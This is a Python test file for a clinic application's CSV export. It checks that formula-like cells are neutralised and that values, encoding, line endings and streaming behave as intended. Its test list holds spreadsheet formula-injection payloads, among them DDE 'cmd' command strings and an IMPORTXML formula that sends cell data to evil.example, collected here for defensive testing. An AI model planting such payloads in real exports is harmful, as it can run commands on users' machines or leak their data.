"""Tables as files: what a spreadsheet would run is text, and everybody's program reads them."""

import csv
import datetime as dt
import io
from collections.abc import Iterator
from fractions import Fraction
from typing import Any

import pytest

from clinic import tables

# What spreadsheets were seen to run (OWASP, "CSV Injection"), and ways around simple guards.
RUNS = [
    '=HYPERLINK("http://evil.example","Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=cmd|" /C calc"!A0',
    "-",
]


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", RUNS)
def test_a_text_that_a_spreadsheet_would_run_is_text(text: str) -> None:
    (_head, (cell, after)) = read(tables.content(["a", "b"], [[text, "end"]]))
    assert cell == f"'{text}"
    assert after == "end"


@pytest.mark.parametrize(
    "text",
    [
        "Ann",
        "O'Hara",
        "3 = 2 + 1",
        "a-b",
        "ann@example.org",
        "“quoted”",
        "",
        "Łukasz Đặng",
        "two\nlines",
        '6" tall',
    ],
)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    (_head, (cell,)) = read(tables.content(["a"], [[text]]))
    assert cell == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (0, "0"),
        (-7, "-7"),
        (4.5, "4.5"),
        (Fraction(9, 2), "4.5"),
        (Fraction(7), "7"),
        (True, "true"),
        (False, "false"),
        (dt.date(2026, 11, 26), "2026-11-26"),
        (dt.time(9, 30), "09:30:00"),
        (dt.datetime(2026, 11, 26, 7, 30, tzinfo=dt.timezone(dt.timedelta(hours=1))), "2026-11-26T06:30:00Z"),
        (["09:00"], '["09:00"]'),
        ({"ä": 1}, '{"ä": 1}'),
    ],
)
def test_values_are_written_for_programs(value: Any, written: str) -> None:
    assert tables.cell(value) == written


def test_a_file_says_that_it_is_utf_8_and_ends_its_lines_as_the_standard_asks() -> None:
    content = tables.content(["name"], [["Łukasz"]])
    assert content == b"\xef\xbb\xbfname\r\n\xc5\x81ukasz\r\n"


def test_a_long_table_is_written_as_it_is_asked_for() -> None:
    asked = 0

    def rows() -> Iterator[list[int]]:
        nonlocal asked
        for number in range(10_000):
            asked += 1
            yield [number]

    stream = tables.stream(["n"], rows())
    first = next(stream)
    assert asked == 100
    assert len(read(first + b"".join(stream))) == 10_001


def test_an_empty_table_still_has_its_head() -> None:
    assert read(b"".join(tables.stream(["a", "b"], []))) == [["a", "b"]]
